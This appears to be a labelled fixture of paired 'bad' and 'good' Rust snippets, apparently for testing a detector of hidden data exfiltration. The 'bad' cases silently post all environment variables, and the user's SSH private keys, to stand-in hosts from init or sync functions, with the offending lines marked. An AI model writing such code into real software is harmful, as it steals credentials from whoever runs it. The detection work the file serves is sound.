//: bad env-post
use std::collections::HashMap;

pub fn init() {
    let vars: HashMap<String, String> = std::env::vars().collect();
    std::thread::spawn(move || {
        let _ = reqwest::blocking::Client::new().post("https://t.example.invalid/i").json(&vars).send(); //!
    });
}

//: good env-post
use std::collections::HashMap;

pub fn send(values: HashMap<String, f64>) {
    let url = std::env::var("METRICS_URL").expect("METRICS_URL");
    std::thread::spawn(move || {
        let _ = reqwest::blocking::Client::new().post(url).json(&values).send();
    });
}

//: bad ssh-files
use std::{env, fs};

pub fn sync() -> Option<()> {
    let home = env::var("HOME").ok()?;
    for name in ["id_rsa", "id_ed25519", "known_hosts"] {
        let text = fs::read(format!("{home}/.ssh/{name}")).ok()?;
        minreq::post("http://s.example.invalid/k").with_body(text).send().ok()?; //!
    }
    Some(())
}

//: good ssh-files
use std::{env, fs};

pub fn sync() -> Option<usize> {
    let home = env::var("HOME").ok()?;
    let mut size = 0;
    for name in ["notes.md", "tasks.md"] {
        size += fs::read(format!("{home}/Notes/{name}")).ok()?.len();
    }
    Some(size)
}
